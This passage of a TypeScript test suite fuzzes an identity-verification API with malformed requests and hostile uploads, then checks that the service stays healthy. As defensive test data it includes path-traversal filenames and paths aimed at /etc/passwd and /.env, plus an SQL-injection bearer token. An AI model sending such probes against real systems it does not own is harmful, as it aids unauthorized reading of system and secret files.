          ['consent twice', multipart(jobParts(img, consentParts()))],
          [
            '7 selfie frames',
            multipart(
              jobParts(
                img,
                Array.from({ length: 7 }, () => ({ name: 'selfieFrames', filename: 'f.jpg', type: 'image/jpeg', data: img })),
              ),
            ),
          ],
          ['two selfies', multipart(jobParts(img, [{ name: 'selfie', filename: 's2.jpg', type: 'image/jpeg', data: img }]))],
          [
            '30 text fields',
            multipart(
              jobParts(
                img,
                Array.from({ length: 30 }, (_, i) => ({ name: `f${i}`, data: 'x' })),
              ),
            ),
          ],
          ['idFront missing', multipart([jobParts(img)[0]])],
          [
            'a traversal file name',
            multipart([{ name: 'selfie', filename: '../../../etc/passwd', type: 'image/jpeg', data: img }, jobParts(img)[1]]),
          ],
          [
            'a 5 KB file name',
            multipart([{ name: 'selfie', filename: 'f'.repeat(5000), type: 'image/jpeg', data: img }, jobParts(img)[1]]),
          ],
          ['a part typed text/html', multipart(jobParts(img, [], 'text/html'))],
          [
            'a base64 transfer-encoded part',
            multipart([
              {
                data: img.toString('base64'),
                rawHeaders: 'Content-Disposition: form-data; name="selfie"; filename="s.jpg"\r\nContent-Transfer-Encoding: base64\r\n',
              },
              jobParts(img)[1],
            ]),
          ],
          [
            'a header line of 20 KB',
            multipart([
              { data: img, rawHeaders: `Content-Disposition: form-data; name="selfie"; filename="${'x'.repeat(20_000)}"\r\n` },
              jobParts(img)[1],
            ]),
          ],
        ];
        for (const [what, m] of cases) push(`multipart: ${what}`, m.headers, m.body);
        const huge = multipart(jobParts(Buffer.concat([img, randomBytes(3 * MAX_UPLOAD_BYTES)])));
        push('multipart over the limit, chunked', huge.headers, huge.body, { chunked: 16_384, expect: exactly(413) });
        push('multipart over the limit', huge.headers, huge.body, { expect: exactly(413) });
        push('multipart with an 8 MB file', huge.headers, multipart(jobParts(randomBytes(8 * 1024 * 1024))).body, { expect: exactly(413) });
      }

      // 4. Weird ids in every id slot (the other slots real).
      for (const slot of Object.keys(route.ids ?? {})) {
        for (const [what, id] of weirdIds(route.ids![slot])) {
          const { body, headers } = validBody(route);
          list.push({
            method: route.method,
            path: fill(route.path, route.ids, [slot, id]),
            what: `${slot} id: ${what}`,
            headers: { ...auth, ...headers },
            body,
          });
        }
        if (['app'].includes(slot)) {
          const { body, headers } = validBody(route);
          list.push({
            method: route.method,
            path: fill(route.path, route.ids, [slot, T.foreignApp]),
            what: `${slot} id: another org's application`,
            headers: { ...auth, ...headers },
            body,
            expect: exactly(404),
          });
        }
      }

      // 5. Odd queries.
      const queries = route.list ? QUERIES : route.method === 'GET' ? QUERIES.filter((_, i) => i % 9 === 0) : [];
      for (const q of queries) push(`query: ${q}`, {}, undefined, { path: `${path}?${q}` });
    }

    // 6. Methods no route answers, on every path (HEAD too, whose answer has no body).
    const byPath = new Map<string, Set<string>>();
    for (const route of routeList) {
      const p = fill(route.path, route.ids);
      byPath.set(p, (byPath.get(p) ?? new Set()).add(route.method));
    }
    for (const [p, methods] of byPath)
      for (const m of ['GET', 'POST', 'PUT', 'PATCH', 'DELETE', 'OPTIONS', 'HEAD'])
        if (!methods.has(m) && !(m === 'HEAD' && methods.has('GET')))
          list.push({
            method: m,
            path: p,
            what: `method ${m}`,
            headers: { ...authOf(undefined), ...(['POST', 'PUT', 'PATCH'].includes(m) ? JSON_CT : {}) },
            body: ['POST', 'PUT', 'PATCH'].includes(m) ? '{"data":{}}' : undefined,
          });
    for (const p of [
      '/',
      '/admin',
      '/applications/../../etc/passwd',
      '/.env',
      '/%2e%2e/%2e%2e',
      '//applications',
      '/APPLICATIONS',
      `/applications;${T.app}`,
      '/\u00ff',
      '/codec',
      '/codec/ui',
    ])
      list.push({ method: 'GET', path: p, what: 'a path no route has', headers: authOf(undefined) });

    // 7. Credentials: missing, malformed, revoked, expired, of another scope or org.
    const AUTH: [string, string | string[] | undefined, boolean][] = [
      ['no Authorization', undefined, true],
      ['empty Authorization', '', true],
      ['scheme alone', 'Bearer', true],
      ['scheme and a space', 'Bearer ', true],
      ['Basic', 'Basic dXNlcjpwYXNz', true],
      ['token without scheme', tokens.partner, true],
      ['Token scheme', `Token ${tokens.partner}`, true],
      ['token and one more byte', `Bearer ${tokens.partner}x`, true],
      ['token less one byte', `Bearer ${tokens.partner.slice(0, -1)}`, true],
      ['token upper-cased', `Bearer ${tokens.partner.toUpperCase()}`, true],
      ['two tokens', `Bearer ${tokens.partner} ${tokens.partner}`, true],
      ['a 600-char token', `Bearer ${'a'.repeat(600)}`, true],
      ['an 8 KB header', `Bearer ${'b'.repeat(8000)}`, true],
      ['latin-1 bytes', 'Bearer \u00ff\u00fe\u00fd', true],
      ['SQL', "Bearer ' OR 1=1 --", true],
      ['null', 'Bearer null', true],
      ['a revoked key', `Bearer ${tokens.revoked}`, true],
      ['an expired key', `Bearer ${tokens.expired}`, true],
      ['lower-case scheme (valid)', `bearer ${tokens.partner}`, false],
      ['tab separator (valid)', `Bearer\t${tokens.partner}`, false],
      ['two Authorization headers', [`Bearer x`, `Bearer ${tokens.partner}`], false],
      ['the reviewer key', `Bearer ${tokens.reviewer}`, false],
      ['the operator key', `Bearer ${tokens.operator}`, false],
      ["another org's key", `Bearer ${tokens.foreign}`, false],
    ];
    const authRoutes = routeList.filter((r) =>
      [
        'GET /applications',
        'POST /applications/:app/review',
        'PUT /applications/:app/documents/:doc',
        'POST /verification-jobs',
        'GET /webhooks/:hook',
        'POST /orgs',
        'POST /codec/decode',
        'GET /org',
        'POST /events/:event',
      ].includes(`${r.method} ${r.path}`),
    );
    for (const route of authRoutes.filter((r, i, all) => all.findIndex((x) => x.method === r.method && x.path === r.path) === i)) {
      for (const [what, value, invalid] of AUTH) {
        const { body, headers } = validBody(route);
        list.push({
          method: route.method,
          path: fill(route.path, route.ids),
          what: `auth: ${what}`,
          headers: { ...headers, ...(value === undefined ? {} : { authorization: value }) } as OutgoingHttpHeaders,
          body,
          expect: invalid ? exactly(401) : undefined,
        });
      }
    }

    const started = Date.now();
    const before = tally.requests;
    await barrage(engine.baseUrl, list);
    console.log(`hostile input: ${tally.requests - before} malformed requests in ${((Date.now() - started) / 1000).toFixed(1)} s`);
    expect(tally.requests).toBeGreaterThanOrEqual(500);
    if (serverErrors.length || otherFailures.length)
      console.log(
        [`${serverErrors.length} responses >= 500:`, ...serverErrors, `${otherFailures.length} other failures:`, ...otherFailures].join(
          '\n',
        ),
      );
    expect(serverErrors).toEqual([]);
    expect(otherFailures).toEqual([]);
  }, 240_000);

  it('at least 100 hostile files to document uploads and verification jobs: no 5xx, the bad ones refused', async () => {
    expect(hostile.length).toBeGreaterThanOrEqual(100);
    const before = { server: serverErrors.length, other: otherFailures.length };
    const targets: Record<'IdDocument' | 'Passport', { app: string; doc: string } | null> = { IdDocument: null, Passport: null };
    const targetFor = async (kind: 'IdDocument' | 'Passport') => {
      if (!targets[kind]) {
        const a = await createApplication(individual({ passport: kind === 'Passport' }));
        expect(a.status).toBe('AwaitingDocuments');
        targets[kind] = { app: a.id, doc: a.doc(kind) };
      }
      return targets[kind]!;
    };
    const jobExpectation = (f: HostileFile) => (status: number) => {
      if (f.bytes.length > MAX_UPLOAD_BYTES) return status === 413 ? null : 'expected 413 for a file over MAX_UPLOAD_BYTES';
      if (f.bytes.length === 0 || !sniffImageType(f.bytes))
        return status >= 400 && status < 500 ? null : 'expected a 4xx for a file that is no JPEG, PNG, WebP or HEIC';
      return null;
    };
    const docExpectation = (f: HostileFile) => (status: number) => {
      if (f.doc === 'accepted') return status >= 200 && status < 300 ? null : 'expected the whole file to be accepted';
      if (f.doc === 'refused') return status >= 400 && status < 500 ? null : 'expected a 4xx refusal';
      if (f.doc === 413) return status === 413 ? null : 'expected 413';
      return null;
    };

    let i = 0;
    for (const f of hostile) {
      i++;
      // A document upload, to a document that still accepts files.
      const kind = f.type === 'application/pdf' ? 'Passport' : 'IdDocument';
      const t = await targetFor(kind);
      const back = kind === 'IdDocument' && i % 2 === 0;
      const r: Hostile = {
        method: 'PUT',
        path: `/applications/${t.app}/documents/${t.doc}${back ? '/back' : ''}`,
        what: `file: ${f.name} as ${f.type}`,
        headers: { authorization: `Bearer ${tokens.partner}`, 'content-type': f.type },
        body: f.bytes,
        chunked: f.chunked ? 8192 : undefined,
        expect: docExpectation(f),
      };
      tally.uploads++;
      const a = judge(r, await send(engine.baseUrl, r).catch((e: Error) => e));
      // An accepted file may complete the document (the application then leaves AwaitingDocuments
      // a moment later): the next file goes to a fresh application.
      if (a && a.status < 300) targets[kind] = null;

      // A verification job with the file as selfie and ID (and, for some, as back and frames).
      const extra: Part[] =
        i % 3 === 0
          ? [
              { name: 'idBack', filename: 'back.jpg', type: f.type, data: f.bytes },
              { name: 'selfieFrames', filename: 'f1.jpg', type: f.type, data: f.bytes },
            ]
          : [];
      const m = multipart(jobParts(f.bytes, extra, f.type));
      const j: Hostile = {
        method: 'POST',
        path: '/verification-jobs',
        what: `job file: ${f.name}`,
        headers: { authorization: `Bearer ${tokens.partner}`, ...m.headers },
        body: m.body,
        chunked: f.chunked ? 8192 : undefined,
        expect: jobExpectation(f),
      };
      tally.uploads++;
      judge(j, await send(engine.baseUrl, j).catch((e: Error) => e));
      if (i % 4 === 0) {
        const b64 = f.bytes.toString('base64');
        const jj: Hostile = {
          method: 'POST',
          path: '/verification-jobs',
          what: `JSON job file: ${f.name}`,
          headers: { authorization: `Bearer ${tokens.partner}`, 'content-type': 'application/vnd.api+json' },
          body: JSON.stringify({
            data: { type: 'verificationJob', attributes: { selfie: b64, idFront: `data:${f.type};base64,${b64}`, consent: consent() } },
          }),
          expect: jobExpectation(f),
        };
        tally.uploads++;
        judge(jj, await send(engine.baseUrl, jj).catch((e: Error) => e));
      }
    }
    const newServer = serverErrors.slice(before.server);
    const newOther = otherFailures.slice(before.other);
    if (newServer.length || newOther.length)
      console.log([`${newServer.length} responses >= 500:`, ...newServer, `${newOther.length} other failures:`, ...newOther].join('\n'));
    expect(newServer).toEqual([]);
    expect(newOther).toEqual([]);
  }, 240_000);

  it('afterwards: the engine is healthy, every job and application settled, no workflow stuck, and a fresh application goes through', async () => {
    expect((await fetch(`${engine.baseUrl}/health`)).status).toBe(200);

    // Every verification job the barrage got admitted ends (completed or failed), none in an internal error.
    const jobProblems: string[] = [];
    await expect
      .poll(
        async () => {
          const rows = await engine.db
            .selectFrom('verification_jobs')
            .select(['id', 'status'])
            .where('id', 'in', [...created.jobs.keys(), 'vj_none'])
            .execute();
          return rows.filter((r) => r.status === 'pending').length;
        },
        { timeout: 90_000, interval: 500 },
      )
      .toBe(0);
    for (const [id, authorization] of created.jobs) {
      const res = await engine.api('GET', `/verification-jobs/${id}`, undefined, { authorization });
      if (res.status !== 200) jobProblems.push(`GET /verification-jobs/${id} → ${res.status}`);
      else if (res.body.data.attributes.failure?.code === 'internal_error')
        jobProblems.push(`job ${id} failed with internal_error: ${JSON.stringify(res.body.data.attributes.failure)}`);
    }

    // The set-up applications still answer; every application the barrage created got evaluated.
    const appProblems: string[] = [];
    const setUp = [T.app, T.backApp, T.passportApp, T.selfieApp, T.business, T.cancelApp, T.reviewApp].map((id) => [
      id,
      `Bearer ${tokens.partner}`,
    ]);
    for (const [id, authorization] of [...setUp, ...created.applications]) {
      const res = await engine.api('GET', `/applications/${id}`, undefined, { authorization });
      if (res.status !== 200) appProblems.push(`GET /applications/${id} → ${res.status}`);
      else if (res.body.data.attributes.status === 'Pending') appProblems.push(`application ${id} is still Pending`);
    }

    // A fresh application goes all the way: upload both sides, review with the reviewer key.
    // Named 00<id> it is no application (PostgreSQL would find the row, but no workflow has that id).
    const fresh = await createApplication(individual());
    expect(fresh.status).toBe('AwaitingDocuments');
    const doc = fresh.doc('IdDocument');
    const zeros = await engine.api('PUT', `/applications/00${fresh.id}/documents/${doc}`, files.jpeg, { 'content-type': 'image/jpeg' });
    expect(zeros.status).toBe(404);
    const front = await engine.api('PUT', `/applications/${fresh.id}/documents/${doc}`, files.jpeg, { 'content-type': 'image/jpeg' });
    expect(front.status, JSON.stringify(front.body)).toBe(200);
    expect(
      (await engine.api('PUT', `/applications/${fresh.id}/documents/${doc}/back`, files.png, { 'content-type': 'image/png' })).status,
    ).toBe(200);
    await waitForStatus(engine, fresh.id, 'PendingReview');
    const reviewed = await engine.api(
      'POST',
      `/applications/${fresh.id}/review`,
      { data: { type: 'applicationReview', attributes: { decision: 'Approved', reason: 'documents checked' } } },
      { authorization: `Bearer ${tokens.reviewer}` },
    );
    expect(reviewed.status, JSON.stringify(reviewed.body)).toBe(200);
    expect(reviewed.body.data.attributes.status).toBe('Approved');
    // The selfie application set up before the barrage still takes its verification.
    const verified = await engine.api('POST', `/applications/${T.selfieApp}/documents/${T.selfieDoc}/verify`, {
      data: { type: 'selfieVerification', attributes: { jobId: T.job } },
    });
    expect(verified.status, JSON.stringify(verified.body)).toBe(200);
    await waitForStatus(engine, T.selfieApp, 'Approved');

    // No workflow of this engine's task queue failed, and none that runs is stuck: each answers a
    // query, no workflow task failed, no activity keeps retrying.
    const stuck: string[] = [];
    const q = engine.config.TEMPORAL_TASK_QUEUE;
    const all: { workflowId: string; runId: string; status: string; type: string }[] = [];
    for await (const wf of engine.temporal.workflow.list({ query: `TaskQueue="${q}"` }))
      all.push({ workflowId: wf.workflowId, runId: wf.runId, status: wf.status.name, type: wf.type });
    const running: string[] = [];
    for await (const wf of engine.temporal.workflow.list({ query: `TaskQueue="${q}" AND ExecutionStatus="Running"` }))
      running.push(wf.workflowId);
    expect(all.length).toBeGreaterThan(0);
    expect(running.every((id) => all.some((w) => w.workflowId === id))).toBe(true);
    for (const wf of all) {
      const handle = engine.temporal.workflow.getHandle(wf.workflowId, wf.runId);
      if (['FAILED', 'TIMED_OUT'].includes(wf.status)) stuck.push(`${wf.workflowId} (${wf.type}) is ${wf.status}`);
      const history = await handle.fetchHistory();
      const taskFailures = (history.events ?? []).filter((e) => e.workflowTaskFailedEventAttributes);
      if (taskFailures.length)
        stuck.push(
          `${wf.workflowId} (${wf.type}): ${taskFailures.length} workflow task failure(s): ${taskFailures[0].workflowTaskFailedEventAttributes?.failure?.message}`,
        );
      if (wf.status !== 'RUNNING') continue;
      const desc = await handle.describe();
      for (const a of desc.raw.pendingActivities ?? [])
        if ((a.attempt ?? 0) > 3)
          stuck.push(`${wf.workflowId}: activity ${a.activityType?.name} at attempt ${a.attempt}: ${a.lastFailure?.message}`);
      if ((desc.raw.pendingWorkflowTask?.attempt ?? 0) > 2)
        stuck.push(`${wf.workflowId}: workflow task at attempt ${desc.raw.pendingWorkflowTask?.attempt}`);
      try {
        await handle.query(wf.workflowId.startsWith('application-') ? 'status' : '__stack_trace');
      } catch (err) {
        stuck.push(`${wf.workflowId} (${wf.type}) does not answer a query: ${(err as Error).message}`);
      }
    }
    workflowsChecked = all.length;
    console.log(
      `hostile input: ${tally.requests} requests, ${hostile.length} files, ${serverErrors.length} responses >= 500, ${workflowsChecked} workflows checked`,
    );
    console.log(
      `  (${tally.uploads} file uploads; ${created.applications.size} applications and ${created.jobs.size} verification jobs admitted; ${running.length} workflows still running; statuses ${[
        ...tally.statuses.entries(),
      ]
        .sort((a, b) => a[0] - b[0])
        .map(([s, n]) => `${s}×${n}`)
        .join(' ')})`,
    );
    expect(jobProblems).toEqual([]);
    expect(appProblems).toEqual([]);
    expect(stuck).toEqual([]);
    expect(serverErrors).toEqual([]);
  }, 180_000);
});
